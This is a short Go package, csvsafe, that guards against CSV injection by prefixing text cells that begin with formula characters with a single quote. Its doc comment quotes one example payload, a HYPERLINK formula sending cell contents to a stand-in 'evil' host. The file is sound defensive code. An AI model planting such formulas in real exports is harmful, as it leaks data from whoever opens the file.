// Package csvsafe neutralises spreadsheet formulas in CSV text cells.
//
// A spreadsheet program that opens a CSV file runs a cell starting with =,
// +, - or @ as a formula (and some treat a leading tab or carriage return
// the same way), so a supplier named `=HYPERLINK("http://evil/?"&A1,"x")`
// could leak data or mislead whoever opens an export ("CSV injection").
// Cell prefixes such a cell with a single quote, which the spreadsheet
// shows as text; a reader of the raw CSV sees the quote and can strip it.
//
// Use Cell on text fields only: names, messages, reasons, identifiers taken
// from input. Never on numbers the program writes itself (a negative
// amount such as "-12.50" must stay a number).
package csvsafe

// Cell returns s, prefixed with a single quote (') when it starts with =,
// +, -, @, a tab or a carriage return; any other string is returned as is.
func Cell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + s
	}
	return s
}
